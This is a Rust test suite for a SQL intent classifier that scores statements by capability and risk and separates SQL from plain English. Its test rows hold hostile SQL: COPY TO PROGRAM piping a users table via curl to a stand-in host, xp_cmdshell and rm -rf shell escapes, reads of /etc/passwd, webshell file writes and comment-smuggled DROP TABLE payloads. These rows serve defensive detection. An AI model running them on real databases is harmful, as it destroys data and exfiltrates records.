//! SQL through the public parser, with and without the `sql` feature: what a
//! statement does, whatever its dialect, and what only looks like SQL.

use rulekeep::RiskLevel;
use rulekeep::intent::{Capability, ParseResult, Parser};
use serde_json::{Map, json};

use RiskLevel::{Critical, High, Low, Medium};

fn parse(input: &str) -> ParseResult {
    Parser::new().unwrap().parse_text(&"tester".parse().unwrap(), input, &Map::new()).unwrap()
}

/// A row: the text, a capability that must be among those that it needs, the least and the greatest risk.
type Row = (&'static str, &'static str, RiskLevel, RiskLevel);

fn faults(rows: &[Row]) -> Vec<String> {
    rows.iter()
        .filter_map(|&(text, capability, least, greatest)| {
            let parsed = parse(text);
            let intent = &parsed.intent;
            let has = intent.required_capabilities.iter().any(|known| known.as_str() == capability);
            let is_sql = intent.context["inputFormat"] == "sql";
            let fits = has && is_sql && (least..=greatest).contains(&intent.risk_level);
            (!fits).then(|| {
                let names: Vec<&str> = intent.required_capabilities.iter().map(Capability::as_str).collect();
                format!(
                    "{text}\n    {} {} {names:?}, expected {capability} {least} to {greatest}",
                    intent.context["inputFormat"], intent.risk_level
                )
            })
        })
        .collect()
}

fn hold(rows: &[Row]) {
    let faults = faults(rows);
    assert!(faults.is_empty(), "{} of {}:\n{}", faults.len(), rows.len(), faults.join("\n"));
}

#[test]
fn a_query_is_a_read_whatever_its_columns_are_called() {
    hold(&[
        ("SELECT * FROM orders", "database:read", Low, Low),
        ("select id, total from orders where status = 'open' order by total desc limit 10;", "database:read", Low, Low),
        ("SELECT deleted_at, update_count FROM posts WHERE deleted_at IS NULL", "database:read", Low, Low),
        ("SELECT \"drop\", \"delete\" FROM \"update\" WHERE id = 1", "database:read", Low, Low),
        ("SELECT `drop` FROM `insert` WHERE `truncate` = 1", "database:read", Low, Low),
        ("SELECT [delete], [drop table] FROM [dbo].[grant] WHERE [update] = 1", "database:read", Low, Low),
        ("SELECT 'DROP TABLE users; DELETE FROM x' AS advice", "database:read", Low, Low),
        ("SELECT id FROM articles WHERE title LIKE '%delete from users%'", "database:read", Low, Low),
        ("SELECT id -- drop table users\nFROM orders /* delete from x */", "database:read", Low, Low),
        ("SELECT count(*) FROM users", "database:read", Low, Low),
        (
            "SELECT COUNT(DISTINCT customer_id), SUM(total) FROM orders GROUP BY region HAVING SUM(total) > 100",
            "database:read",
            Low,
            Low,
        ),
        (
            "SELECT o.id, p.name FROM orders o JOIN products p ON p.id = o.product_id LEFT JOIN shops s USING (shop_id)",
            "database:read",
            Low,
            Low,
        ),
        (
            "SELECT * FROM (SELECT id, row_number() OVER (PARTITION BY kind ORDER BY made) AS place FROM parts) t WHERE place = 1",
            "database:read",
            Low,
            Low,
        ),
        (
            "WITH recent AS (SELECT * FROM orders WHERE day > now() - interval '7 days') SELECT region, avg(total) FROM recent GROUP BY 1",
            "database:read",
            Low,
            Low,
        ),
        (
            "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 100) SELECT sum(n) FROM t",
            "database:read",
            Low,
            Low,
        ),
        ("SELECT replace(name, 'a', 'b'), truncate(price, 2), left(code, 3) FROM products", "database:read", Low, Low),
        ("SELECT TOP 10 name FROM products ORDER BY price", "database:read", Low, Low),
        ("SELECT id FROM a UNION SELECT id FROM b EXCEPT SELECT id FROM c", "database:read", Low, Low),
        (
            "SELECT data->>'kind', tags @> ARRAY['x'] FROM events WHERE data #> '{a,b}' IS NOT NULL",
            "database:read",
            Low,
            Low,
        ),
        ("SELECT CASE WHEN stock > 0 THEN 'in' ELSE 'out' END FROM parts", "database:read", Low, Low),
        (
            "SELECT name FROM products WHERE id IN (SELECT product_id FROM orders WHERE total BETWEEN 1 AND 5)",
            "database:read",
            Low,
            Low,
        ),
        (
            "SELECT created_at::date, CAST(total AS decimal(10, 2)) FROM orders WHERE EXISTS (SELECT 1 FROM parts)",
            "database:read",
            Low,
            Low,
        ),
        ("SELECT DATE_TRUNC('month', day), COALESCE(kind, 'none') FROM `shop.sales.orders`", "database:read", Low, Low),
        ("SELECT * FROM sales QUALIFY row_number() OVER (ORDER BY id) = 1", "database:read", Low, Low),
        ("SELECT toStartOfMonth(day), uniq(visitor) FROM hits GROUP BY 1", "database:read", Low, High),
        ("SELECT id FROM jobs WHERE state = 'new' FOR UPDATE SKIP LOCKED", "database:read", Low, Medium),
        ("(SELECT id FROM a) UNION ALL (SELECT id FROM b)", "database:read", Low, Low),
        ("SELECT token_count, password_changed_at FROM runs", "database:read", Low, Low),
        ("VALUES (1, 'a'), (2, 'b')", "database:read", Low, Low),
        ("SHOW TABLES", "database:read", Low, Low),
        ("SHOW CREATE TABLE orders;", "database:read", Low, Low),
        ("DESCRIBE orders", "database:read", Low, Low),
        ("EXPLAIN SELECT * FROM orders", "database:read", Low, Low),
        ("EXPLAIN DELETE FROM orders", "database:read", Low, Low),
        ("EXPLAIN QUERY PLAN SELECT * FROM orders WHERE id = 1", "database:read", Low, Low),
        ("EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders", "database:read", Low, Low),
        ("PRAGMA table_info(users)", "database:read", Low, Low),
        ("select name from sqlite_master where type='table';", "database:read", Low, Low),
        ("SELECT column_name FROM information_schema.columns WHERE table_name = 'users'", "database:read", Low, Low),
        ("SELECT * FROM prod.orders WHERE id = 5", "database:read", Low, Low),
        ("BEGIN; SELECT 1; COMMIT;", "database:read", Low, Low),
    ]);
}

#[test]
fn what_a_query_shows_of_persons_and_secrets_counts() {
    hold(&[
        ("select * from users where id=1", "database:read", Low, Medium),
        ("SELECT email, phone FROM customers", "database:read", Medium, High),
        ("SELECT diagnosis FROM patients WHERE id = 3", "database:read", Medium, High),
        ("SELECT password_hash FROM users", "credential:read", High, Critical),
        ("SELECT u.\"apiKey\" FROM users u", "credential:read", High, Critical),
        ("SELECT * FROM api_tokens", "credential:read", High, Critical),
        ("SELECT * FROM pg_shadow", "credential:read", High, Critical),
        ("SELECT user, authentication_string FROM mysql.user", "credential:read", High, Critical),
        ("SELECT ssn FROM employees", "customer:read", High, High),
        ("SELECT card_number, cvv FROM payments", "payment:read", High, High),
    ]);
}

#[test]
fn a_bounded_change_is_medium() {
    hold(&[
        ("INSERT INTO orders (id, total) VALUES (1, 2)", "database:write", Medium, Medium),
        ("insert into tags values ('a'), ('b');", "database:write", Medium, Medium),
        ("INSERT INTO archive SELECT * FROM orders WHERE day < '2020-01-01'", "database:write", Medium, Medium),
        ("INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", "database:write", Medium, Medium),
        ("INSERT INTO t (id) VALUES (1) ON DUPLICATE KEY UPDATE n = n + 1", "database:write", Medium, Medium),
        ("INSERT IGNORE INTO tags SET name = 'a'", "database:write", Medium, Medium),
        ("REPLACE INTO tags (id) VALUES (1)", "database:write", Medium, Medium),
        ("INSERT OR REPLACE INTO tags (id) VALUES (1)", "database:write", Medium, Medium),
        ("UPDATE orders SET status = 'sent' WHERE id = 5", "database:write", Medium, Medium),
        ("update orders set note='x' where id=5 and day > now()", "database:write", Medium, Medium),
        (
            "UPDATE o SET o.status = 'x' FROM orders o JOIN parts p ON p.id = o.part WHERE p.name = 'y'",
            "database:write",
            Medium,
            Medium,
        ),
        (
            "MERGE INTO stock s USING news n ON s.id = n.id WHEN MATCHED THEN UPDATE SET n = n.n WHEN NOT MATCHED THEN INSERT (id) VALUES (n.id)",
            "database:write",
            Medium,
            Medium,
        ),
        ("DELETE FROM orders WHERE id = 3", "database:delete", Medium, Medium),
        ("delete from sessions where expires < now() - interval '30 days'", "database:delete", Medium, Medium),
        ("delete from sessions where expires_at < now()", "database:delete", Medium, Medium),
        ("delete from sessions where created_at < now() - interval '30 days'", "database:delete", Medium, Medium),
        ("delete from users where created_at > '2025-01-01'", "database:delete", Medium, Medium),
        ("delete from users where id between 1 and 10", "database:delete", Medium, Medium),
        ("delete from users where id < 10", "database:delete", Medium, Medium),
        ("delete from users where id > 5", "database:delete", Medium, Medium),
        (
            "merge into t using s on t.id = s.id when matched and s.gone = 1 then delete",
            "database:delete",
            Medium,
            Medium,
        ),
        ("DELETE FROM orders WHERE id = 3 RETURNING *", "database:delete", Medium, Medium),
        ("DELETE TOP (1) FROM queue WHERE done = 1", "database:delete", Medium, Medium),
        (
            "CREATE TABLE notes (id int primary key, deleted_at timestamp, owner int REFERENCES people (id) ON DELETE CASCADE)",
            "database:write",
            Medium,
            Medium,
        ),
        (
            "CREATE TABLE IF NOT EXISTS totals AS SELECT region, sum(total) FROM orders GROUP BY 1",
            "database:write",
            Medium,
            Medium,
        ),
        ("CREATE UNIQUE INDEX CONCURRENTLY by_day ON orders (day)", "database:write", Medium, Medium),
        (
            "CREATE OR REPLACE VIEW open_orders AS SELECT * FROM orders WHERE status = 'open'",
            "database:write",
            Medium,
            Medium,
        ),
        ("CREATE DATABASE shop", "database:write", Medium, Medium),
        ("ALTER TABLE orders ADD COLUMN note text", "database:write", Medium, Medium),
        ("ALTER TABLE orders RENAME TO purchases;", "database:write", Medium, Medium),
        ("COMMENT ON TABLE orders IS 'drop table x'", "database:write", Medium, Medium),
        ("DROP VIEW open_orders", "database:delete", Medium, Medium),
        ("DROP INDEX IF EXISTS by_day", "database:delete", Medium, Medium),
        ("COPY orders FROM STDIN WITH (FORMAT csv)", "database:write", Medium, Medium),
    ]);
}

#[test]
fn a_change_without_a_bound_is_high() {
    hold(&[
        ("DELETE FROM users", "database:delete", High, High),
        ("delete from users;", "database:delete", High, High),
        ("DELETE FROM users WHERE 1=1", "database:delete", High, High),
        ("DELETE FROM users WHERE id = 1 OR 1 = 1", "database:delete", High, High),
        ("DELETE FROM users WHERE id = 1 OR 'a' = 'a'", "database:delete", High, High),
        ("DELETE FROM users WHERE true", "database:delete", High, High),
        ("DELETE FROM users WHERE id IS NOT NULL", "database:delete", High, High),
        ("DELETE FROM users WHERE name LIKE '%'", "database:delete", High, High),
        ("DELETE FROM users -- WHERE id = 1", "database:delete", High, High),
        ("DELETE FROM users /* WHERE id = 1 */", "database:delete", High, High),
        ("DELETE users", "database:delete", High, High),
        ("UPDATE users SET name = 'x'", "database:write", High, High),
        ("UPDATE users SET a = (SELECT b FROM t WHERE t.id = 1)", "database:write", High, High),
        ("update users set active=0;", "database:write", High, High),
        ("DROP TABLE users", "database:delete", High, High),
        ("drop table users;", "database:delete", High, High),
        ("DROP TABLE IF EXISTS a, b CASCADE", "database:delete", High, High),
        ("/* hi */ drop table users", "database:delete", High, High),
        ("DROP/**/TABLE/**/users", "database:delete", High, High),
        ("DROP SCHEMA public CASCADE", "database:delete", High, Critical),
        ("DROP DATABASE shop", "database:delete", High, Critical),
        ("TRUNCATE TABLE orders", "database:delete", High, High),
        ("truncate orders, parts restart identity cascade;", "database:delete", High, High),
        ("ALTER TABLE users DROP COLUMN email", "database:delete", High, High),
        ("ALTER TABLE users ADD a int, DROP b", "database:delete", High, High),
        ("ALTER TABLE logs TRUNCATE PARTITION p1", "database:delete", High, High),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "database:delete", High, High),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND true THEN DELETE", "database:delete", High, High),
        ("DELETE FROM users WHERE id > 0", "database:delete", High, High),
        ("DELETE FROM users WHERE id >= 1", "database:delete", High, High),
        ("DELETE FROM users WHERE id < 1e9", "database:delete", High, High),
        ("DELETE FROM users WHERE id BETWEEN 1 AND 1e9", "database:delete", High, High),
        ("DELETE FROM users WHERE created_at < now()", "database:delete", High, High),
        ("DELETE FROM users WHERE created_at <= CURRENT_TIMESTAMP", "database:delete", High, High),
        ("DELETE FROM users WHERE created_at > '1970-01-01'", "database:delete", High, High),
        ("DELETE FROM users WHERE true OR name = 'x'", "database:delete", High, High),
        ("UPDATE users SET a = 1 WHERE updated_at < now()", "database:write", High, High),
        ("DROP DATABASE production", "database:delete", Critical, Critical),
        ("DROP TABLE prod.users", "database:delete", Critical, Critical),
        ("DELETE FROM prod_users", "database:delete", Critical, Critical),
        ("UPDATE prod.users SET name = 'x' WHERE id = 1", "database:write", High, High),
        ("UPDATE prod.users SET name = 'x'", "database:write", Critical, Critical),
    ]);
}

#[test]
fn an_effect_inside_a_query_is_the_effect() {
    hold(&[
        ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "database:delete", High, High),
        (
            "WITH d AS MATERIALIZED (DELETE FROM users WHERE id = 1 RETURNING *) SELECT count(*) FROM d",
            "database:delete",
            Medium,
            Medium,
        ),
        ("WITH x AS (SELECT 1) DELETE FROM users", "database:delete", High, High),
        ("WITH x AS (SELECT 1), y AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM y", "database:write", High, High),
        ("EXPLAIN ANALYZE DELETE FROM users", "database:delete", High, High),
        ("EXPLAIN (ANALYZE TRUE) UPDATE t SET a = 1", "database:write", High, High),
        ("EXPLAIN (BUFFERS, ANALYZE) INSERT INTO t VALUES (1)", "database:write", Medium, Medium),
        ("SELECT 1; DROP TABLE users", "database:delete", High, High),
        ("SELECT 1 DROP TABLE users", "database:delete", High, High),
        ("SELECT * INTO backup FROM users", "database:write", Medium, High),
        ("BEGIN TRANSACTION; DELETE FROM a WHERE id = 1; DROP TABLE b; COMMIT", "database:delete", High, High),
        ("SELECT nextval('s')", "database:write", Medium, High),
        ("SELECT my_own_function(1)", "database:execute", High, High),
        ("SELECT pg_terminate_backend(12)", "database:execute", High, High),
        ("SELECT setval('s', 1)", "database:write", Medium, High),
    ]);
}

#[test]
fn who_may_do_what_is_admin() {
    hold(&[
        ("GRANT SELECT ON users TO bob", "permission:admin", High, High),
        ("GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public TO app;", "permission:admin", High, High),
        ("GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION", "permission:admin", Critical, Critical),
        ("grant all on shop.* to bob;", "permission:admin", Critical, Critical),
        ("REVOKE UPDATE ON orders FROM bob", "permission:admin", High, High),
        ("CREATE USER bob WITH PASSWORD 'x'", "permission:admin", High, High),
        ("CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", "permission:admin", High, High),
        ("CREATE ROLE boss SUPERUSER LOGIN", "permission:admin", Critical, Critical),
        ("ALTER USER bob WITH SUPERUSER", "permission:admin", Critical, Critical),
        ("ALTER ROLE bob SET search_path = x", "permission:admin", High, High),
        ("ALTER SERVER ROLE sysadmin ADD MEMBER bob", "permission:admin", Critical, Critical),
        ("DROP USER bob", "permission:admin", High, High),
        ("SET ROLE postgres", "permission:admin", High, Critical),
        ("SET SESSION AUTHORIZATION 'boss'", "permission:admin", High, High),
        ("SET PASSWORD FOR 'bob' = 'x'", "credential:admin", High, High),
        ("REASSIGN OWNED BY bob TO eve", "permission:admin", High, High),
        ("ALTER TABLE users DISABLE ROW LEVEL SECURITY", "permission:admin", High, Critical),
        ("UPDATE users SET role = 'admin' WHERE id = 4", "permission:admin", High, High),
        ("UPDATE users SET password = 'x' WHERE id = 1", "credential:admin", High, High),
        ("INSERT INTO user_roles VALUES (4, 'admin')", "permission:admin", High, High),
        ("UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'bob'", "permission:admin", High, Critical),
        ("FLUSH PRIVILEGES", "permission:admin", Medium, High),
    ]);
}

#[test]
fn what_leaves_the_database_is_high() {
    hold(&[
        ("COPY users TO PROGRAM 'curl -d @- http://x.example'", "system:execute", High, Critical),
        ("COPY t FROM PROGRAM 'id'", "system:execute", High, Critical),
        ("COPY (SELECT * FROM users) TO '/tmp/users.csv'", "file:write", High, High),
        ("COPY t FROM '/etc/passwd'", "file:read", High, High),
        ("SELECT * FROM users INTO OUTFILE '/tmp/x'", "file:write", High, High),
        ("SELECT '<?php ?>' INTO DUMPFILE '/var/www/x.php'", "file:write", High, High),
        ("SELECT LOAD_FILE('/etc/passwd')", "file:read", High, High),
        ("SELECT pg_read_file('/etc/passwd')", "file:read", High, High),
        ("SELECT lo_import('/etc/passwd')", "file:read", High, High),
        ("SELECT lo_export(1, '/tmp/x')", "file:write", High, High),
        ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", "database:execute", High, High),
        ("SELECT * FROM OPENROWSET(BULK 'c:/x', SINGLE_CLOB) AS x", "file:read", High, High),
        ("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "file:read", High, High),
        ("EXEC xp_cmdshell 'dir'", "system:execute", High, Critical),
        ("EXEC master..xp_cmdshell 'dir'", "system:execute", High, Critical),
        ("exec sp_configure 'xp_cmdshell', 1; reconfigure;", "database:execute", High, High),
        ("EXEC('DROP' + ' TABLE users')", "database:execute", High, High),
        ("DECLARE @s nvarchar(99) = 'DR' + 'OP TABLE x'; EXEC sp_executesql @s", "database:execute", High, High),
        ("EXECUTE IMMEDIATE 'DROP TABLE users'", "database:execute", High, High),
        ("PREPARE s FROM 'DROP TABLE users'", "database:execute", High, High),
        ("CALL cleanup_all()", "database:execute", High, High),
        ("DO $$ BEGIN DROP TABLE users; END $$", "database:execute", High, High),
        ("DO $body$ BEGIN PERFORM 1; END $body$ LANGUAGE plpgsql", "database:execute", High, High),
        ("CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u", "database:execute", High, High),
        ("CREATE TRIGGER t AFTER DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()", "database:execute", High, High),
        ("CREATE EXTENSION plpython3u", "database:execute", High, High),
        ("ATTACH DATABASE '/var/www/x.php' AS x", "database:execute", High, High),
        ("PRAGMA writable_schema = ON", "database:execute", Medium, High),
        ("VACUUM INTO '/tmp/copy.db'", "file:write", High, High),
        ("SELECT load_extension('x.so')", "system:execute", High, High),
        ("ALTER SYSTEM SET archive_command = 'x'", "config:write", High, High),
        ("SET GLOBAL general_log_file = '/var/www/x.php'", "config:write", High, High),
        ("SHUTDOWN;", "system:execute", High, High),
        ("BACKUP DATABASE shop TO DISK = 'x.bak'", "file:write", Medium, High),
        ("RESTORE DATABASE shop FROM DISK = 'x.bak'", "database:write", High, High),
        ("\\! rm -rf /", "system:execute", High, Critical),
        ("\\copy users TO 'x.csv'", "file:write", Medium, High),
        ("SELECT 1 \\g | sh", "system:execute", High, High),
        (".shell rm -rf /", "system:execute", High, Critical),
        ("COPY t TO PROGRAM 'rm -rf /srv'", "file:delete", High, Critical),
        ("DO $$ BEGIN EXECUTE 'DROP SCHEMA public CASCADE'; END $$;", "database:delete", High, High),
        ("DECLARE @s nvarchar(99) = N'TRUNCATE TABLE dbo.Orders'; EXEC(@s);", "database:delete", High, High),
        ("EXEC('DR' + 'OP TABLE users')", "database:delete", High, High),
        ("PREPARE s FROM 'DROP TABLE users'", "database:delete", High, High),
        ("DELIMITER $$\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END $$", "database:execute", High, High),
    ]);
}

#[test]
fn what_dialects_read_differently_is_high() {
    hold(&[
        ("SELECT 'a\\'; DROP TABLE users; -- '", "database:delete", High, High),
        ("SELECT 'a\\'; SELECT 2; -- '", "database:execute", High, High),
        ("SELECT 1--1 ; DROP TABLE users", "database:delete", High, High),
        ("SELECT 1 /*! UNION SELECT 2 */", "database:execute", High, High),
        ("SELECT 1 /*M! ; DROP TABLE users */", "database:delete", High, High),
        ("SELECT 1 /*!50000 ; DROP TABLE users */", "database:delete", High, High),
        ("SELECT 1 # '\n; DROP TABLE users -- '", "database:delete", High, High),
        ("SELECT /* /* */ 1; DROP TABLE users; -- */", "database:delete", High, High),
        ("SELECT $$; DROP TABLE users; $$", "database:delete", High, High),
        ("SELECT U&\"\\0061\" FROM t", "database:execute", High, Critical),
        ("SELECT \"a\\\"; DROP TABLE users; --\"", "database:delete", High, High),
        ("SELECT * FROM t WHERE a = 'unclosed", "database:execute", High, High),
        ("SELECT (1", "database:execute", High, High),
        ("SELECT 1 FROM t WHERE )", "database:execute", High, High),
    ]);
}

#[test]
fn english_is_not_taken_for_sql() {
    for text in [
        "Select the best option from the list",
        "Select a hotel from the list",
        "select all unread mails from the inbox",
        "Select three photos from album one and share them",
        "update the table with the results",
        "Update the settings to set = dark",
        "Update my profile and set the picture",
        "delete from my cart the shoes",
        "Delete from the list all that is done",
        "drop table reservations for 4 at the restaurant",
        "Drop the idea",
        "Create table reservations for four",
        "Create a table with three columns (name, age, town)",
        "create user accounts for the new employees",
        "insert into the document a table of contents",
        "insert the key into the lock; then turn it",
        "Grant Bob access to the folder",
        "grant access to the folder on friday to maria",
        "Show tables that are free at the restaurant tonight",
        "show me the orders from last week",
        "call mom (the home number)",
        "With the results as (draft) send a mail",
        "Explain the plan to me",
        "Explain select committees",
        "Truncate the text after 100 words",
        "merge the branch into main",
        "Execute the plan as agreed",
        "set an alarm for 7",
        "begin the backup",
        "commit the changes",
        "copy the report to 'Archive'",
        "use the car",
        "describe the picture",
        "Alter the dress by Friday",
        "values matter",
        "DELETE THE FILE report.txt",
        "UPDATE THE README",
        "SHOW ME THE WEATHER",
        "SELECT A HOTEL FROM THE LIST",
        "vacuum the living room",
        "lock the door",
    ] {
        assert_ne!(parse(text).intent.context["inputFormat"], "sql", "{text}");
    }
}

#[test]
fn sql_inside_a_sentence_is_read_and_talk_about_sql_is_not() {
    for (text, capability, least) in [
        ("Please run DROP TABLE users on the shop database", "database:delete", High),
        ("Execute the following query: delete from users;", "database:delete", High),
        ("Run this SQL: UPDATE users SET active = 0", "database:write", High),
        ("run `DELETE FROM users` on the database", "database:delete", High),
        ("Clean up and then TRUNCATE TABLE orders please", "database:delete", High),
        ("Could you execute \"GRANT ALL PRIVILEGES ON *.* TO 'bob'\"?", "permission:admin", Critical),
    ] {
        let intent = parse(text).intent;
        assert!(intent.required_capabilities.iter().any(|known| known.as_str() == capability), "{text}: {intent:?}");
        assert!(intent.risk_level >= least, "{text}: {intent:?}");
    }
    for text in ["Explain what DROP TABLE users does", "What does `DELETE FROM users` do?"] {
        let intent = parse(text).intent;
        assert!(intent.risk_level <= Medium, "{text}: {intent:?}");
    }
}

#[test]
fn a_tools_argument_is_read_as_sql() {
    for (sql, capability, least) in [
        ("drop table users", "database:delete", High),
        ("Delete From users", "database:delete", High),
        ("whatever this is", "database:execute", High),
        ("\\! id", "system:execute", High),
        ("SELECT id FROM orders", "database:read", Low),
    ] {
        let call = json!({ "name": "run_sql", "arguments": { "sql": sql } }).to_string();
        let intent = parse(&call).intent;
        assert!(intent.required_capabilities.iter().any(|known| known.as_str() == capability), "{sql}: {intent:?}");
        assert!(intent.risk_level >= least, "{sql}: {intent:?}");
    }
}

#[test]
fn tables_and_counts_are_facts() {
    for (text, target, count) in [
        ("SELECT * FROM shop.orders LIMIT 50", "shop.orders", Some(50)),
        ("DELETE FROM queue WHERE done = 1 LIMIT 2000", "queue", Some(2000)),
        ("SELECT TOP 10 name FROM products", "products", Some(10)),
        ("SELECT id FROM parts FETCH FIRST 5 ROWS ONLY", "parts", Some(5)),
        ("UPDATE ONLY orders SET a = 1 WHERE id = 1", "orders", None),
        ("INSERT INTO \"Order Items\" (id) VALUES (1)", "Order Items", None),
        ("DROP TABLE IF EXISTS old_orders", "old_orders", None),
        ("ALTER TABLE IF EXISTS orders ADD x int", "orders", None),
        ("TRUNCATE orders;", "orders", None),
        ("GRANT SELECT ON orders TO bob", "orders", None),
        ("CREATE TABLE IF NOT EXISTS notes (id int)", "notes", None),
    ] {
        let context = parse(text).intent.context;
        assert_eq!(context.get("target").and_then(|target| target.as_str()), Some(target), "{text}");
        assert_eq!(context.get("recordCount").and_then(serde_json::Value::as_u64), count, "{text}");
    }
}

#[test]
fn nesting_and_length_cost_no_stack() {
    let most = 64 * 1024;
    for piece in [
        "(",
        "SELECT (",
        "/*",
        "'",
        "\"",
        "`",
        "[",
        ";",
        "$$",
        "$a$",
        "SELECT ",
        ")",
        "--",
        "E'",
        "\\",
        "CASE ",
        "NOT ",
        "- ",
        "a.",
        "a(",
        "WITH x AS (",
        "EXPLAIN ",
        "DELETE FROM x ",
        "SELECT 1 UNION ",
        "1 AND ",
        "#",
        "/*!",
        "U&'",
        "BEGIN ",
        "WHEN MATCHED THEN ",
        "INTERVAL ",
        "a -> ",
        "(SELECT ",
        "{",
    ] {
        for start in ["", "SELECT ", "DELETE FROM t WHERE ", "SELECT * FROM t; "] {
            let mut text = start.to_owned();
            while text.len() + piece.len() <= most {
                text.push_str(piece);
            }
            let call = json!({ "name": "run_sql", "arguments": { "sql": text.get(..most / 3) } }).to_string();
            for text in [&text, &call] {
                let parsed = Parser::new().unwrap().parse_text(&"tester".parse().unwrap(), text, &Map::new());
                assert!(parsed.is_ok(), "{start}{piece}: {:?}", parsed.err());
            }
        }
    }
}

#[test]
fn a_call_is_a_statement_in_small_letters_too() {
    hold(&[
        ("select dblink_exec('x','drop table t')", "database:delete", High, Critical),
        ("select xp_cmdshell('dir')", "system:execute", High, Critical),
        ("select pg_terminate_backend(17)", "database:execute", High, High),
        ("select my_proc()", "database:execute", High, High),
        ("select app.refresh_totals(2024), now()", "database:execute", High, High),
        ("select setval('s', 1)", "database:write", Medium, High),
        ("select pg_read_file('/etc/passwd')", "file:read", High, High),
        ("call purge_all()", "database:execute", High, High),
        ("exec dbo.purge_all @days = 30", "database:execute", High, High),
        ("select lower('ABC')", "database:read", Low, Low),
        ("SHUTDOWN", "system:execute", High, High),
        ("SHUTDOWN WITH NOWAIT", "system:execute", High, High),
        ("PURGE BINARY LOGS", "analytics:delete", High, Critical),
        ("PURGE MASTER LOGS TO 'mysql-bin.010'", "analytics:delete", High, Critical),
    ]);
    for text in ["select items (the red ones)", "call mom (mobile)", "select my favourite movie(s)"] {
        assert_ne!(parse(text).intent.context["inputFormat"], "sql", "{text}");
    }
}

#[test]
fn a_call_held_against_itself_bounds_nothing() {
    hold(&[
        ("DELETE FROM t WHERE coalesce(id,0)=coalesce(id,0)", "database:delete", High, High),
        ("delete from orders where abs(id) = abs(id)", "database:delete", High, High),
        ("UPDATE t SET x=1 WHERE upper(trim(name)) = upper(trim(name))", "database:write", High, High),
        ("DELETE FROM t WHERE abs(a) = abs(b)", "database:delete", Medium, Medium),
        ("REPLACE INTO users SELECT * FROM tmp", "database:write", High, High),
        ("REPLACE INTO t (id, x) VALUES (1, 2)", "database:write", Medium, Medium),
    ]);
}
